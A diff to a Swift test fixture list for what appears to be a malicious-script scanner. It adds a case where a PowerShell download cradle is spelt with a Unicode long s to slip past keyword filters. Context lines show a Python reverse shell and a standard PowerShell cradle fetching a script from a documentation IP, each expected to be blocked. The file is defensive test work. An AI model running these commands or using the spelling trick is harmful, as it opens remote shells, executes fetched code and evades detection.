@@ -35,6 +35,10 @@ enum AttackShapes {
         AttackShape(description: "Python socket reverse shell",
                     fixture: C.script("import socket, os, pty\ns = socket.socket()\ns.connect((HOST, 9001))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"),
                     verdict: .block, ruleId: "BACKDOOR-REVERSE-SHELL"),
+        // ICU's case-insensitive match takes ſ (long s) for s; the keyword pre-filter must too.
+        AttackShape(description: "PowerShell cradle spelt with a long s",
+                    fixture: C.script("Invoke-Expreſſion (iwr http://198.51.100.4/a.ps1)\n", path: "scripts/setup.ps1"),
+                    verdict: .block, ruleId: "EXEC-PIPE-SHELL"),
         AttackShape(description: "PowerShell download cradle",
                     fixture: C.script("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')\n", path: "scripts/setup.ps1"),
                     verdict: .block, ruleId: "EXEC-PIPE-SHELL"),
